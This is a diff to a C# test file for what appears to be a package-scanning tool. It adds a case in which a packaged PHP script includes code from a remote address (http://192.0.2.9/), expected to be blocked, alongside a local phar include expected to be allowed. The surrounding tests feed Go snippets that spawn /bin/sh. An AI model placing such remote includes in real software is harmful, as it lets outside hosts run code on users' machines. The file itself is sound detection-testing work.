@@ -121,6 +121,15 @@ public sealed class PackageFormatTests
     }
 
     [Theory]
+    [InlineData("phar://' . __FILE__ . '/'", Decision.Allow)]
+    [InlineData("http://192.0.2.9/'", Decision.Block)]
+    public async Task A_command_of_PHP_may_load_its_own_archive_and_no_address(string from, Decision decision)
+    {
+        var report = await PackageForms.ScanAsync(PackageForms.Debian([], "./usr/bin/example", $"#!/usr/bin/php\n<?php\nfunction load($file)\n{{\n    include('{from} . $file);\n}}\nload('x.inc');\n"));
+        Assert.Equal(decision, report.Verdict.Decision);
+    }
+
+    [Theory]
     [InlineData("func Fetch() {\n\texec.Command(\"/bin/sh\", \"-c\", \"ls\").Run()\n}\n")]
     [InlineData("func Get(u string) (*http.Response, error) {\n\treturn http.Get(u)\n}\n")]
     [InlineData("func init() {\n\tif v := os.Getenv(\"EXAMPLE_DEBUG\"); v != \"\" {\n\t\tdebug = true\n\t}\n}\n")]
